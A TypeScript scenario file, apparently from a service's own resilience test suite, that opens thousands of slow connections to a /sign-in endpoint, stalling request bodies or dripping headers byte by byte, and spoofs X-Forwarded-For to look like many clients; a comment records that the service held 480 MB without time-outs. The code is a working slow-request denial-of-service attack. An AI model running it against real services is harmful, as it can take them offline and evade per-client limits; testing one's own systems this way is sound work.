// Requests that never end: 2,000 unfinished bodies at /sign-in held 480 MB for more than 20 s,
// since no time-outs were set. They come from the proxy's address, and straight from strangers'
// addresses.
import { connect, type Socket } from 'node:net';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { attack, type Target } from './attack.ts';

interface Args extends Target {
  readonly connections: number;
  /**
   * Addresses of this machine that the connections come from, in turn. On those from the proxy's
   * address, a header names another client each time.
   */
  readonly peers: readonly string[];
  readonly proxy: string;
  /** How long the attack waits for the service to close its connections. */
  readonly patienceSeconds: number;
}

const BODY_BYTES = 250 * 1024;
const BODY = Buffer.alloc(BODY_BYTES - 1024, 'x');
const AT_ONCE = 100;
const LETTER_MS = 1000;

await attack<Args>(async ({ url, connections, peers, proxy, patienceSeconds }, run) => {
  const { port, hostname: host } = new URL(url);
  const open = new Set<Socket>();
  for (let n = 0; n < connections && !run.isOver(); n += AT_ONCE)
    await Promise.all(
      Array.from({ length: Math.min(AT_ONCE, connections - n) }, (_, k) => begin(n + k)),
    );
  run.begun();
  const giveUpAt = performance.now() + patienceSeconds * 1000;
  while (open.size > 0 && performance.now() < giveUpAt && !run.isOver()) await sleep(200);
  run.tally('connections that the service kept open', open.size);
  for (const socket of open) socket.destroy();

  async function begin(n: number): Promise<void> {
    const localAddress = peers[n % peers.length]!;
    const socket = connect({ host, port: Number(port), localAddress });
    open.add(socket);
    socket.on('error', () => {});
    socket.once('close', () => void open.delete(socket));
    socket.on('data', (data: Buffer) =>
      run.tally(`answers ${/^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? 'continued'}`),
    );
    try {
      await once(socket, 'connect');
    } catch {
      return run.tally('connections refused');
    }
    run.tally('connections');
    const forwarded =
      localAddress === proxy ? `X-Forwarded-For: 10.9.${n >> 8}.${n & 255}\r\n` : '';
    const head = `POST /sign-in HTTP/1.1\r\nHost: ${host}\r\n${forwarded}`;
    // Of each peer's connections, two thirds stop within the body; the others send a header letter
    // by letter.
    if (Math.floor(n / peers.length) % 3 !== 0) {
      socket.write(
        `${head}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`,
      );
      socket.write(BODY);
      return;
    }
    socket.write(`${head}X-Slow: `);
    const timer = setInterval(() => socket.write('x'), LETTER_MS);
    socket.once('close', () => clearInterval(timer));
  }
});
